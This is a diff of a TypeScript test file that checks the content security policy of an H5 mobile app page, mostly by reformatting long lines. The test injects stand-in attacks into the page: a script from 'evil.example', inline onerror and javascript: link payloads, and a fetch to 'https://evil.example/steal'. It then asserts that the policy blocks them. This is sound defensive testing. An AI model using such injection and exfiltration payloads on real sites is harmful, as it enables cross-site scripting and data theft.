@@ -6,9 +6,23 @@ import { H5App } from './h5-app';
 
 /** Pages that between them load all that the app loads: pictures, films, drawings, PDF, the map, workers. */
 const PAGES = [
-  '/', '/pages/pointStore/pointStore', '/pages/message/message', '/pages/userCenter/userCenter', '/pages/brandList/brandList', '/pages/payment/payment', '/pages/setting/setting', '/pages/maintainStore/maintainStore',
-  '/packages/course/courseIndex/courseIndex', '/packages/repairCases/repairCases/repairCases', '/packages/vehicleMaintain/maintain/maintain', '/packages/maintainStore/storeBriefing/storeBriefing', '/packages/maintainStore/storeTurnover/storeTurnover',
-  '/packages/maintainStore/vehicleReceive/add', '/packages/user/profile/profile', '/packages/user/partner/partner', '/packages/raffle/raffleList/raffleList',
+  '/',
+  '/pages/pointStore/pointStore',
+  '/pages/message/message',
+  '/pages/userCenter/userCenter',
+  '/pages/brandList/brandList',
+  '/pages/payment/payment',
+  '/pages/setting/setting',
+  '/pages/maintainStore/maintainStore',
+  '/packages/course/courseIndex/courseIndex',
+  '/packages/repairCases/repairCases/repairCases',
+  '/packages/vehicleMaintain/maintain/maintain',
+  '/packages/maintainStore/storeBriefing/storeBriefing',
+  '/packages/maintainStore/storeTurnover/storeTurnover',
+  '/packages/maintainStore/vehicleReceive/add',
+  '/packages/user/profile/profile',
+  '/packages/user/partner/partner',
+  '/packages/raffle/raffleList/raffleList',
 ];
 /** A page's own later requests come within this time; ms. */
 const SETTLED_MS = 700;
@@ -22,7 +36,9 @@ async function watch(page: Page, seen: Watched): Promise<void> {
   await page.exposeFunction('noteViolation', (text: string) => seen.violations.push(text));
   await page.addInitScript(() => {
     const note = (window as unknown as { noteViolation: (text: string) => void }).noteViolation;
-    document.addEventListener('securitypolicyviolation', (event) => note(`${event.effectiveDirective} ${event.blockedURI} on ${location.hash}`));
+    document.addEventListener('securitypolicyviolation', (event) =>
+      note(`${event.effectiveDirective} ${event.blockedURI} on ${location.hash}`),
+    );
   });
 }
 
@@ -58,15 +74,23 @@ describe('the content security policy of the H5 page', () => {
       const foreign = document.createElement('script');
       foreign.src = 'https://evil.example/x.js';
       const picture = document.createElement('div');
-      picture.innerHTML = '<img src="data:image/png;base64,x" onerror="window.ran.push(\'handler\')"><a id="bait" href="javascript:window.ran.push(\'link\')">x</a>';
+      picture.innerHTML =
+        '<img src="data:image/png;base64,x" onerror="window.ran.push(\'handler\')"><a id="bait" href="javascript:window.ran.push(\'link\')">x</a>';
       document.body.append(script, foreign, picture);
       document.getElementById('bait')?.click();
-      await fetch('https://evil.example/steal').then(() => marks.ran?.push('request'), () => undefined);
+      await fetch('https://evil.example/steal').then(
+        () => marks.ran?.push('request'),
+        () => undefined,
+      );
       await new Promise((resolve) => setTimeout(resolve, 500));
       return marks.ran;
     });
     assert.deepEqual(ran, []);
-    for (const directive of ['script-src', 'connect-src']) assert.ok(seen.violations.some((text) => text.startsWith(directive)), `${directive} in ${seen.violations.join('; ')}`);
+    for (const directive of ['script-src', 'connect-src'])
+      assert.ok(
+        seen.violations.some((text) => text.startsWith(directive)),
+        `${directive} in ${seen.violations.join('; ')}`,
+      );
   });
 
   it('comes with the headers of a page that others may not embed, sniff or ask the device through', async () => {
